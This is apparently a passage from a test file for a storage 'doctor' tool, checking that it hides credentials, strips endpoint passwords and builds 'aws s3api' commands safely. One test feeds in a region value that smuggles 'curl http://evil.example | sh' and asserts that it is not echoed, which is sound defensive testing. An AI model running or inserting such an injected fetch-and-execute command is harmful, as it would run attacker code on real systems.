  expect(written.join('')).toMatch(/^note {5}access token .*\nok {7}bucket .*\n(?:.*\n)*\n1 note\.\n$/)
  expect(written.join('')).not.toMatch(SECRETS)
  expect(exitCode).toBe(0)
})

it('connectToBucket names AWS by its region, and commands without an endpoint', async () => {
  const connection = await connectToBucket(
    { bucket: BUCKET, region: 'eu-central-1', credentials: CREDENTIALS },
    { now: Date.now, timeoutMs: 1_000 },
  )
  expect(connection).toMatchObject({ place: 'AWS, eu-central-1', isAws: true, region: 'eu-central-1' })
  expect(connection.command('delete-bucket-policy')).toBe('aws s3api delete-bucket-policy --bucket archive')
  connection.close()
})

it('connectToBucket repeats no password of an endpoint', async () => {
  const connection = await connectToBucket(
    {
      bucket: BUCKET,
      region: 'eu-central-1',
      endpoint: 'https://user:canary@s3.example/base/',
      credentials: CREDENTIALS,
    },
    { now: Date.now, timeoutMs: 1_000 },
  )
  expect(connection).toMatchObject({ place: 's3.example', isAws: false })
  expect(connection.command('x', '--y z')).toBe(
    'aws s3api x --bucket archive --y z --endpoint-url https://s3.example/base',
  )
  connection.close()
})

it('runDoctor says so when there is nothing to check', async () => {
  const { findings, exitCode } = await examine({})
  expect(findings.map(({ check, severity }) => [check, severity])).toEqual([
    ['access token', 'note'],
    ['bucket', 'note'],
    ['settings', 'error'],
  ])
  expect(exitCode).toBe(2)
})

it("runDoctor puts nothing into a command that is no region's name, whatever the store says", async () => {
  const region = 'us-east-1; curl http://evil.example | sh'
  const { text } = await examineBucket({ 'HEAD bucket': { status: 301, headers: { 'x-amz-bucket-region': region } } })
  expect(text).not.toContain('evil')
})
